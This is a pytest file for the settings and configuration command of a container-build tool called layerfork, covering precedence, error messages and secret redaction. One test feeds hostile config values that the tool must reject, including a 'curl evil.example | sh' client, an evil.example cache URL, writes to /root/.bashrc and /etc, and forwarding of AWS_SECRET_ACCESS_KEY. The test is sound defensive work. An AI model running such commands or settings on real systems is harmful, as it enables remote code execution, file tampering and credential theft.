"""Settings: what commands get when the command line does not say, and what a file may not say."""

import json
from pathlib import Path
from typing import Any

import click
import pytest

from layerfork.app.check import checking
from layerfork.app.check.checking import Checked, CheckOptions
from layerfork.app.predict import commits, remembered
from layerfork.cli import call
from layerfork.cli.root import COMMANDS, root
from layerfork.cli.settings import SETTINGS, SHARED, option_name, options_of
from layerfork.record.check import Against, CheckReport


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository, with the working directory one below its root."""
    (tmp_path / ".git").mkdir()
    (tmp_path / "below").mkdir()
    monkeypatch.chdir(tmp_path / "below")
    for name in ("GITHUB_ACTIONS", "GITHUB_STEP_SUMMARY"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> list[CheckOptions]:
    """Every check that the command line asks for, in place of builds."""
    calls: list[CheckOptions] = []

    def check(options: CheckOptions, say: object) -> Checked:
        calls.append(options)
        return Checked(exit_code=0, report=CheckReport(against=Against.AGAIN, steps=1, seconds_lost=0.0))

    monkeypatch.setattr(checking, "check_command", check)
    return calls


def settings(project: Path, text: str) -> None:
    (project / "layerfork.toml").write_text(text)


def commands() -> dict[str, click.Command]:
    found = {name: root.get_command(click.Context(root), name) for name in COMMANDS}
    return {name: command for name, command in found.items() if command is not None}


def test_the_command_line_comes_before_the_environment_before_the_file_before_the_default(
    project: Path, asked: list[CheckOptions], monkeypatch: pytest.MonkeyPatch
) -> None:
    call(["check", "."])
    settings(project, '[check]\nmax-lost = 1\nengine = "private:1"\n')
    call(["check", "."])
    monkeypatch.setenv("LAYERFORK_CHECK_MAX_LOST", "2")
    call(["check", "."])
    call(["check", ".", "--max-lost", "3"])
    assert [each.max_lost_s for each in asked] == [None, 1.0, 2.0, 3.0]
    assert [each.engine for each in asked] == ["", "private:1", "private:1", "private:1"]


def test_a_table_comes_before_what_is_said_for_all_and_so_does_a_variable(
    project: Path, asked: list[CheckOptions], monkeypatch: pytest.MonkeyPatch
) -> None:
    settings(project, 'engine = "private:1"\n')
    call(["check", "."])
    settings(project, 'engine = "private:1"\n[check]\nengine = "private:2"\n')
    call(["check", "."])
    monkeypatch.setenv("LAYERFORK_ENGINE", "private:3")
    call(["check", "."])
    monkeypatch.setenv("LAYERFORK_CHECK_ENGINE", "private:4")
    call(["check", "."])
    assert [each.engine for each in asked] == ["private:1", "private:2", "private:3", "private:4"]


def test_a_variable_that_is_wrong_is_named(
    asked: list[CheckOptions], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LAYERFORK_FORMAT", "yaml")
    assert call(["check", "."]) == 2
    said = capsys.readouterr().err
    assert "'yaml' is not one of" in said
    assert said.endswith("hint: it comes from the variable LAYERFORK_FORMAT\n")
    assert call(["check", ".", "--format", "yml"]) == 2
    assert "LAYERFORK_FORMAT" not in capsys.readouterr().err
    assert asked == []


def test_repeatable_options_are_lists_or_one_text(
    project: Path, asked: list[CheckOptions], monkeypatch: pytest.MonkeyPatch
) -> None:
    settings(project, '[check]\nallow = ["content", "step 3"]\n')
    call(["check", "."])
    settings(project, '[check]\nallow = "step 3"\n')
    call(["check", "."])
    call(["check", ".", "--allow", "uid"])
    monkeypatch.setenv("LAYERFORK_CHECK_ALLOW", "content Dockerfile:8")
    call(["check", "."])
    assert [each.allow for each in asked] == [
        ("content", "step 3"),
        ("step 3",),
        ("uid",),
        ("content", "Dockerfile:8"),
    ]


def test_paths_start_where_the_file_is(project: Path, asked: list[CheckOptions]) -> None:
    settings(project, '[check]\nbaseline = "main.jsonl#2"\nfile = "ci/Dockerfile"\n')
    call(["check", "."])
    assert asked[0].baseline == "../main.jsonl#2"
    assert asked[0].argv == ("docker", "build", "--file", "../ci/Dockerfile", ".")


def test_what_does_not_go_with_the_command_line_gives_way(
    project: Path, asked: list[CheckOptions], monkeypatch: pytest.MonkeyPatch
) -> None:
    settings(project, '[check]\nclient = ["docker-build", "docker_py-build"]\ntarget = "t"\n')
    assert call(["check", "--", "make"]) == 0
    assert call(["check", ".", "--baseline", "x.jsonl"]) == 0
    settings(project, '[check]\nload = "below/base.tar"\nbaseline = "main.jsonl"\n')
    (project / "below" / "base.tar").touch()
    assert call(["check", "."]) == 0
    assert call(["check", ".", "--cold"]) == 0
    assert [each.baseline for each in asked] == ["", "x.jsonl", "../main.jsonl", ""]
    assert [each.load for each in asked] == [(), (), (), ("base.tar",)]
    built = ("docker", "build", "--target", "t", ".")
    assert [each.argv for each in asked[:2]] == [("make",), built]


def test_predict_of_commits_and_records_does_not_stumble_over_settings(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[Any] = []

    def predict(*words: object, **options: object) -> tuple[()]:
        calls.append((words, options))
        return ()

    monkeypatch.setattr(commits, "predict_histories", predict)
    monkeypatch.setattr(remembered, "predict_builds", predict)
    settings(project, 'max-age = "7d"\n[predict]\nclient = "docker-build"\nagainst = "x"\n')
    call(["predict", "--git", "a..b"])
    call(["predict", "--record", "y.jsonl"])
    (words, _), (_, options) = calls
    assert words == ("", "a..b")
    assert (options["record"], options["against"], options["max_age_s"]) == ("y.jsonl", "", 604_800.0)
    assert call(["predict", "--git", "a..b", "--max-age", "1d"]) == 2


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('engin = "x"\n', "layerfork.toml:1: there is no setting engin\nhint: did you mean engine?"),
        ("\n[chek]\n", "layerfork.toml:2: there is no setting chek\nhint: did you mean check?"),
        ("check = 1\n", "layerfork.toml:1: check is not a table"),
        (
            "[check]\nmax_lost = 1\n",
            "2: there is no setting max_lost in [check]\nhint: did you mean max-lost?",
        ),
        ('[check]\nmax-lost = "1"\n', "layerfork.toml:2: max-lost is not a number"),
        ("[check]\nmax-lost = true\n", "layerfork.toml:2: max-lost is not a number"),
        ("[check]\nmax-lost = -1\n", "layerfork.toml:2: max-lost: -1.0 is not in the range x>=0"),
        ("[check]\nno-ci = 1\n", "layerfork.toml:2: no-ci is not true or false"),
        ("[check]\nallow = [1]\n", "layerfork.toml:2: allow is not a text or a list of them"),
        ("[check]\nengine = []\n", "layerfork.toml:2: engine is not a text"),
        ('[check]\nformat = "yaml"\n', "layerfork.toml:2: format: 'yaml' is not one of"),
        ('[check.deeper]\nx = "y"\n', "layerfork.toml:1: there is no setting deeper in [check]"),
        ("x = [\n", "cannot read"),
    ],
)
def test_what_is_wrong_is_an_error_with_its_line(
    project: Path, asked: list[CheckOptions], capsys: pytest.CaptureFixture[str], text: str, said: str
) -> None:
    settings(project, text)
    assert call(["check", "."]) == 2
    assert said in capsys.readouterr().err
    assert asked == []
    assert call(["config"]) == 2
    assert said in capsys.readouterr().err
    assert call(["check", "--help"]) == 0


@pytest.mark.parametrize(
    ("command", "text"),
    [
        ("check", '[check]\noutput = "/root/.bashrc"\n'),
        ("check", '[check]\nreport = ["html:/root/.bashrc"]\n'),
        ("check", '[check]\ntag = "postgres:16"\n'),
        ("check", '[check]\nbuild-arg = ["AWS_SECRET_ACCESS_KEY"]\n'),
        ("check", '[check]\nengine = "host:production"\n'),
        ("check", 'engine = "buildkit:tcp://192.0.2.1:1"\n'),
        ("check", '[check]\nclient = ["docker-build", "x=curl evil.example | sh"]\n'),
        ("run", '[run]\nclient = ["mine"]\n[clients.mine]\ncommand = "evil {tag}"\n'),
        ("run", "[run]\ninherit-config = true\n"),
        ("run", '[run]\nresume = "precious.jsonl"\n'),
        ("predict", '[predict]\ncache-from = ["type=gha,url=https://evil.example/"]\n'),
        ("predict", '[predict]\nstore = "/etc"\n'),
        ("records", "[records.prune]\nkeep = 0\n"),
        ("records", '[records]\nstore = "/etc"\n'),
    ],
)
def test_a_file_cannot_write_run_ask_or_remove(
    project: Path, capsys: pytest.CaptureFixture[str], command: str, text: str
) -> None:
    settings(project, text)
    assert call([command, "."]) == 2
    assert "is not for a file to set" in capsys.readouterr().err
    assert call(["config"]) == 2


def test_a_described_client_does_not_run_under_the_name_of_one_that_is_known(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (project / "below" / "Dockerfile").write_text("FROM scratch\n")
    settings(project, '[clients.docker-build]\ncommand = "touch ran {tag}"\n')
    for words in ([], ["--client", "docker-build"]):
        assert call(["run", ".", "--plan", *words]) == 2
        assert "has the name of a client that layerfork brings" in capsys.readouterr().err


def test_every_setting_is_an_option_and_every_shared_one_has_a_value_that_all_take(project: Path) -> None:
    names = {
        option_name(option)
        for command in commands().values()
        for each in (command, *(command.commands.values() if isinstance(command, click.Group) else ()))
        for option in options_of(each)
    }
    assert set(SETTINGS) <= names
    assert set(SHARED) <= set(SETTINGS)
    settings(project, 'engine = "private"\nformat = "json"\nmax-age = "7d"\nverbose = true\n')
    assert call(["config"]) == 0


def test_config_shows_what_is_in_force_and_from_where(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LAYERFORK_CHECK_MAX_LOST", "2")
    monkeypatch.setenv("LAYERFORK_CHECK_BUILD_ARG", "A=1 API_TOKEN=abcdefghij")
    monkeypatch.setenv("LAYERFORK_CHECK_MAX_LOSS", "2")
    monkeypatch.setenv("LAYERFORK_RUN", "make")
    settings(
        project,
        'engine = "private:1"\n[check]\nallow = ["uid", "gid"]\nno-ci = true\n[clients.mine]\n'
        'command = "make {tag}"\n',
    )
    assert call(["config"]) == 0
    text = capsys.readouterr().out
    assert text.startswith("Settings of ../layerfork.toml\n\nrun\n  engine  private:1  ../layerfork.toml:1\n")
    assert (
        "\ncheck\n"
        "  build-arg  A=1, API_TOKEN=…  LAYERFORK_CHECK_BUILD_ARG\n"
        "  engine     private:1         ../layerfork.toml:1\n"
        "  allow      uid, gid          ../layerfork.toml:3\n"
        "  max-lost   2                 LAYERFORK_CHECK_MAX_LOST\n"
        "  no-ci      true              ../layerfork.toml:4\n"
    ) in text
    assert "\n  mine  make {tag}\n" in text
    assert text.endswith("\nLAYERFORK_CHECK_MAX_LOSS is set, but is not a setting\n")
    assert "abcdefghij" not in text
    assert call(["config", "--format", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert (document["schema"], document["file"]) == ("layerfork/config/1", "../layerfork.toml")
    assert document["clients"] == [{"name": "mine", "command": "make {tag}"}]
    assert {
        "command": "check",
        "option": "allow",
        "value": ["uid", "gid"],
        "origin": "file",
        "place": "../layerfork.toml:3",
        "variable": "LAYERFORK_CHECK_ALLOW",
        "from_file": True,
    } in document["rows"]


def test_config_shows_no_secret(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "zuzuzu123456"
    monkeypatch.setenv("LAYERFORK_PREDICT_CACHE_FROM", f"type=s3,bucket=b,secret_access_key={secret}")
    monkeypatch.setenv("LAYERFORK_RUN_DASK", f"tls://me:{secret}@host:8786")
    settings(project, f'[clients.mine]\ncommand = "env NPM_TOKEN={secret} make"\n')
    for words in ((), ("--format", "json")):
        assert call(["config", *words]) == 0
        out = capsys.readouterr().out
        assert "type=s3,bucket=b,secret_access_key=" in out
        assert secret not in out


def test_config_without_settings_says_so(capsys: pytest.CaptureFixture[str]) -> None:
    assert call(["config"]) == 0
    assert capsys.readouterr().out == (
        "No settings file: neither layerfork.toml nor [tool.layerfork] up to the repository's root\n"
        "All options have their default values\n"
    )
    assert call(["config", "-v"]) == 0
    assert "  max-lost   -      default; LAYERFORK_CHECK_MAX_LOST\n" in capsys.readouterr().out
